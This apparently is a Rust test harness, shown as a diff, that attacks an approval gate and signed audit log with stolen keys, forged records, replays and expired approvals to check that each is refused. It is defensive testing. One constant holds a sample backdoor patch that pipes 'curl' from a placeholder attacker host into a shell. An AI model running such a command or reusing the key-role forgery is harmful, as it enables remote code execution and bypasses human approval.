@@ -1,0 +1,294 @@
+//! Ways to cheat, each tried against the real server, gate or verifier.
+//!
+//! Records are made by hand with the ordinary commands, by actors whose keys are taken to be stolen.
+
+use std::{fmt, fs, time::Duration};
+
+use counterfoil_receipt::{RecordId, UnverifiedRecord, body::{Body, Type}};
+use serde_json::{Value, json};
+
+use super::{
+    runs::{Play, broken},
+    stage::{Actor, Said},
+    tamper::Pieces,
+    telling::Telling,
+};
+use crate::{error::Outcome, git_apply::PATCH};
+
+/// A patch that nobody approved.
+const OTHER_PATCH: &str = "diff --git a/backdoor.sh b/backdoor.sh\nnew file mode 100755\n--- /dev/null\n+++ b/backdoor.sh\n\
+    @@ -0,0 +1 @@\n+curl https://attacker.invalid | sh\n";
+/// The name of the file that an attacker passes off as the approved run's.
+const FORGED: &str = "forged.bundle.jsonl";
+
+/// All that is needed to attack.
+pub struct Attacks<'p> {
+    /// The play.
+    pub play: &'p Play<'p>,
+    /// A patch that applies.
+    pub patch: &'p str,
+    /// The approved run, and its bundle.
+    pub approved: &'p (String, Vec<u8>),
+}
+
+/// What an attack came to.
+#[derive(Debug)]
+pub struct Attempt {
+    what: &'static str,
+    by: &'static str,
+    expected: &'static str,
+    status: i32,
+    codes: Vec<String>,
+}
+
+/// A run with an approved proposal that was not executed yet.
+struct Target {
+    run: String,
+    proposal: String,
+    bundle: Pieces,
+    decision: UnverifiedRecord,
+}
+
+impl Attacks<'_> {
+    /// Tries them all.
+    pub fn all(&self) -> Outcome<Vec<Attempt>> {
+        self.play.telling.part("Attacks", "with stolen keys and forged files, against the same server, gate and verifier")?;
+        let target = self.target()?;
+        let attempts = [
+            self.another_patch(&target)?,
+            self.agent_decides(&target)?,
+            self.executed_twice()?,
+            self.two_approvers(&target)?,
+            self.expired()?,
+            self.replayed()?,
+            self.forged_files()?,
+        ];
+        let attempts: Vec<Attempt> = attempts.into_iter().flatten().collect();
+        let refused = attempts.iter().filter(|attempt| attempt.is_refused()).count();
+        self.play.telling.say(&format!("\n  {} attacks, {refused} refused\n", attempts.len()))?;
+        Ok(attempts)
+    }
+
+    /// Another patch than the approved one: asked of the gate, and slipped past it with the runtime's stolen key.
+    fn another_patch(&self, target: &Target) -> Outcome<Vec<Attempt>> {
+        const WHAT: &str = "another patch than the approved one";
+        let runtime = &self.play.cast.runtime;
+        let content = runtime.write("other.json", Value::from(OTHER_PATCH).to_string().as_bytes())?;
+        let item = self.play.act(runtime, &["record", "item", &content, "--label", PATCH, "--payload", "other.payload"])?;
+        let mut action = target.action()?;
+        action["committed"][PATCH] = item.text("commitment")?.into();
+        let file = runtime.write("other-action.json", action.to_string().as_bytes())?;
+        let gate = self.gate(&target.run, &["--proposal", &target.proposal, "--action", &file])?;
+        let body = target.execution(&action, 1, &target.decision)?;
+        let log = self.submit_execution(&target.run, &target.decision.id(), &body, None)?;
+        Ok(vec![self.tell(WHAT, "gate", "action-differs", &gate)?, self.tell(WHAT, "log", "action-differs", &log)?])
+    }
+
+    /// The agent's key signs what a human has to: it says that its role is human.
+    fn agent_decides(&self, target: &Target) -> Outcome<Vec<Attempt>> {
+        let agent = &self.play.cast.agent;
+        let key = String::from_utf8(agent.read("keys/agent.key")?).map_err(|_| broken("the key file is no text"))?;
+        let thief = agent.dir.join("keys/thief.key");
+        crate::output::write_secret(&thief, key.replace("role = \"agent\"", "role = \"human\"").as_bytes())?;
+        let body = agent.write("decision.json", value(&target.decision)["body"].to_string().as_bytes())?;
+        let key = ["--key", "keys/thief.key"];
+        let said = self.submit_by_hand(agent, Type::Decision, &target.run, &target.proposal, &body, &key)?;
+        Ok(vec![self.tell("the decision signed by the agent's key", "log", "key-role", &said)?])
+    }
+
+    /// The same approval executed twice: asked of the gate, and past it.
+    fn executed_twice(&self) -> Outcome<Vec<Attempt>> {
+        const WHAT: &str = "the same approval executed twice";
+        let (run, bundle) = self.approved;
+        let gate = self.gate(run, &[])?;
+        let bundle = Pieces::of(bundle).ok_or_else(|| broken("the approved run is no bundle"))?;
+        let execution = bundle.first(Type::Execution).ok_or_else(|| broken("nothing was executed"))?;
+        let body = value(&execution)["body"].to_string();
+        let log = self.submit_execution(run, &execution.id(), &body, None)?;
+        Ok(vec![self.tell(WHAT, "gate", "use-exceeded", &gate)?, self.tell(WHAT, "log", "use-consumed", &log)?])
+    }
+
+    /// Two people approve one use; the runtime's key claims it once on each approval.
+    fn two_approvers(&self, target: &Target) -> Outcome<Vec<Attempt>> {
+        let (play, action) = (self.play, target.action()?);
+        play.approve(&play.cast.second_human, &target.run, &["--proposal", &target.proposal, "--window", "15m"])?;
+        let both = self.bundle(&target.run)?;
+        let decisions: Vec<UnverifiedRecord> =
+            both.run_records().into_iter().filter(|record| record.kind() == Type::Decision).collect();
+        let [first, second] = decisions.as_slice() else { return Err(broken("there are not two decisions")) };
+        let target = Target { run: target.run.clone(), proposal: target.proposal.clone(), bundle: both, decision: first.clone() };
+        let honest = self.submit_execution(&target.run, &first.id(), &target.execution(&action, 1, first)?, None)?;
+        if honest.status != 0 {
+            return Err(broken("the first execution on two approvals was not admitted"));
+        }
+        let said = self.submit_execution(&target.run, &second.id(), &target.execution(&action, 1, second)?, None)?;
+        Ok(vec![self.tell("two approvers, one use, two executions", "log", "use-consumed", &said)?])
+    }
+
+    /// An approval whose window is over: asked of the gate, and past it with a backdated record.
+    fn expired(&self) -> Outcome<Vec<Attempt>> {
+        const WHAT: &str = "an expired approval";
+        let (quiet, human) = (self.quiet(), &self.play.cast.human);
+        let run = quiet.start()?;
+        let proposal = quiet.propose(&run, self.patch, None)?;
+        quiet.approve(human, &run, &["--window", "1s"])?;
+        let bundle = self.bundle(&run)?;
+        let decision = bundle.first(Type::Decision).ok_or_else(|| broken("there is no decision"))?;
+        let until = value(&decision)["body"]["window"]["until"].as_u64().unwrap_or(0);
+        let expired = Target { run, proposal, bundle, decision };
+        let body = expired.execution(&expired.action()?, 1, &expired.decision)?;
+        let left = until.saturating_sub(crate::time::now()) + 20;
+        self.play.stage.pause(Duration::from_millis(left))?;
+        let gate = self.gate(&expired.run, &["--proposal", &expired.proposal])?;
+        let inside = until.saturating_sub(1).to_string();
+        let log = self.submit_execution(&expired.run, &expired.decision.id(), &body, Some(&inside))?;
+        Ok(vec![self.tell(WHAT, "gate", "window-closed", &gate)?, self.tell("… and the execution backdated", "log", "window-closed", &log)?])
+    }
+
+    /// The whole approved run, submitted to another log.
+    fn replayed(&self) -> Outcome<Vec<Attempt>> {
+        let stage = self.play.stage;
+        let second = stage.serve("second-log")?;
+        let replayer = stage.actor(&second, "replayer")?;
+        let bundle = Pieces::of(&self.approved.1).ok_or_else(|| broken("the approved run is no bundle"))?;
+        let lines: Vec<u8> = bundle.run_records().iter().flat_map(|record| [record.bytes(), b"\n"].concat()).collect();
+        let file = replayer.write("run.records", &lines)?;
+        let said = stage.run(&replayer, &["submit", &file])?;
+        Ok(vec![self.tell("the run replayed into a second log", "log", "log-mismatch", &said)?])
+    }
+
+    /// The approved run's file, changed in ways that a reader must notice.
+    fn forged_files(&self) -> Outcome<Vec<Attempt>> {
+        type Change = fn(&mut Pieces) -> Option<()>;
+        let changes: [(&str, &str, Change); 4] = [
+            ("another record's inclusion proof", "inclusion-mismatch", Pieces::swap_proof_hashes),
+            ("a record removed from the middle", "inclusion-mismatch", |pieces| pieces.leave_out(Type::Observation)),
+            ("… and the proof recomputed", "parent-unknown", |pieces| pieces.leave_out_skilfully(Type::Observation)),
+            ("one byte changed", "signature-invalid", |pieces| pieces.change_a_letter(Type::Observation)),
+        ];
+        let auditor = &self.play.cast.auditor;
+        let mut attempts = Vec::new();
+        for (what, expected, change) in changes {
+            let mut pieces = Pieces::of(&self.approved.1).ok_or_else(|| broken("the approved run is no bundle"))?;
+            change(&mut pieces).ok_or_else(|| broken(&format!("nothing to forge: {what}")))?;
+            auditor.write(FORGED, &pieces.to_bytes())?;
+            let said = self.play.stage.run(auditor, &["verify", FORGED])?;
+            let findings = said.json()["findings"].as_array().cloned().unwrap_or_default();
+            let codes = findings.iter().filter_map(|finding| finding["code"].as_str()).take(1).map(str::to_owned).collect();
+            attempts.push(self.tell_codes(what, "verifier", expected, said.status, codes)?);
+        }
+        Ok(attempts)
+    }
+
+    /// A run with an approved proposal.
+    fn target(&self) -> Outcome<Target> {
+        let quiet = self.quiet();
+        let run = quiet.start()?;
+        let proposal = quiet.propose(&run, self.patch, None)?;
+        quiet.approve(&quiet.cast.human, &run, &["--window", "15m"])?;
+        let bundle = self.bundle(&run)?;
+        let decision = bundle.first(Type::Decision).ok_or_else(|| broken("there is no decision"))?;
+        Ok(Target { run, proposal, bundle, decision })
+    }
+
+    /// The same play, without an audience.
+    fn quiet(&self) -> Play<'_> {
+        let Play { stage, cast, task, telling } = *self.play;
+        Play { stage, cast, task, telling: Telling::new(telling.style(), true) }
+    }
+
+    fn bundle(&self, run: &str) -> Outcome<Pieces> {
+        let runtime = &self.play.cast.runtime;
+        self.play.act(runtime, &["bundle", run, "--out", "run.jsonl"])?;
+        Pieces::of(&runtime.read("run.jsonl")?).ok_or_else(|| broken("the server gave no bundle"))
+    }
+
+    fn gate(&self, run: &str, more: &[&str]) -> Outcome<Said> {
+        let repository = self.play.task.repository.path().to_string_lossy().into_owned();
+        let command = ["gate", "apply", run, "--repo", &repository];
+        self.play.stage.run(&self.play.cast.runtime, &[&command[..], more].concat())
+    }
+
+    /// Signs an execution with the runtime's key, past its gate, and submits it.
+    fn submit_execution(&self, run: &str, parent: &RecordId, body: &str, time: Option<&str>) -> Outcome<Said> {
+        let runtime = &self.play.cast.runtime;
+        let body = runtime.write("execution.json", body.as_bytes())?;
+        let more: Vec<&str> = time.iter().flat_map(|time| ["--time", *time]).collect();
+        self.submit_by_hand(runtime, Type::Execution, run, &parent.to_string(), &body, &more)
+    }
+
+    fn submit_by_hand(
+        &self, who: &Actor, kind: Type, run: &str, parent: &str, body: &str, more: &[&str],
+    ) -> Outcome<Said> {
+        let record = who.dir.join("by-hand.record");
+        let _ = fs::remove_file(&record);
+        let command = ["record", "new", kind.as_str(), "--run", run, "--parents", parent, "--body", body, "--out", "by-hand.record"];
+        self.play.act(who, &[&command[..], more].concat())?;
+        self.play.stage.run(who, &["submit", "by-hand.record"])
+    }
+
+    fn tell(&self, what: &'static str, by: &'static str, expected: &'static str, said: &Said) -> Outcome<Attempt> {
+        self.tell_codes(what, by, expected, said.status, said.codes())
+    }
+
+    fn tell_codes(
+        &self, what: &'static str, by: &'static str, expected: &'static str, status: i32, codes: Vec<String>,
+    ) -> Outcome<Attempt> {
+        let attempt = Attempt { what, by, expected, status, codes };
+        let (telling, style) = (self.play.telling, self.play.telling.style());
+        let verdict = if attempt.is_refused() {
+            format!("{} by the {by}", style.good(&format!("{:<20}", attempt.code())))
+        } else {
+            style.bad(&format!("NOT REFUSED: {attempt}"))
+        };
+        telling.say(&format!("  {what:<41} {verdict}\n"))?;
+        Ok(attempt)
+    }
+}
+
+impl Target {
+    /// The action that was proposed, as it stands in the record.
+    fn action(&self) -> Outcome<Value> {
+        let named = |record: &UnverifiedRecord| record.id().to_string() == self.proposal;
+        let proposal = self.bundle.run_records().into_iter().find(named);
+        proposal.map(|record| value(&record)["body"]["action"].clone()).ok_or_else(|| broken("the proposal is not in its bundle"))
+    }
+
+    /// The body of an execution record, as a gate would write it, for this action on this decision.
+    fn execution(&self, action: &Value, use_number: u64, decision: &UnverifiedRecord) -> Outcome<String> {
+        let Body::Decision(body) = decision.body() else { return Err(broken("that is no decision")) };
+        let (size, root) = self.bundle.basis().ok_or_else(|| broken("the bundle has no checkpoint"))?;
+        let execution = json!({
+            "action": action, "basis": {"root": root, "size": size}, "decisions": [decision.id().to_string()],
+            "policy": body.policy.to_string(), "proposal": self.proposal, "use": use_number,
+        });
+        Ok(execution.to_string())
+    }
+}
+
+impl Attempt {
+    /// Whether it failed, and with the code that it must fail with.
+    pub fn is_refused(&self) -> bool {
+        self.status > 0 && !self.codes.is_empty() && self.codes.iter().all(|code| code == self.expected)
+    }
+
+    fn code(&self) -> &str {
+        self.codes.first().map_or("no code", String::as_str)
+    }
+
+    /// For a program.
+    pub fn to_json(&self) -> Value {
+        json!({"attack": self.what, "by": self.by, "code": self.code(), "expected": self.expected, "refused": self.is_refused()})
+    }
+}
+
+impl fmt::Display for Attempt {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let Self { what, by, expected, status, .. } = self;
+        write!(f, "{what}: the {by} gave exit status {status} with {}, not {expected}", self.code())
+    }
+}
+
+fn value(record: &UnverifiedRecord) -> Value {
+    serde_json::from_slice(record.bytes()).unwrap_or_default()
+}
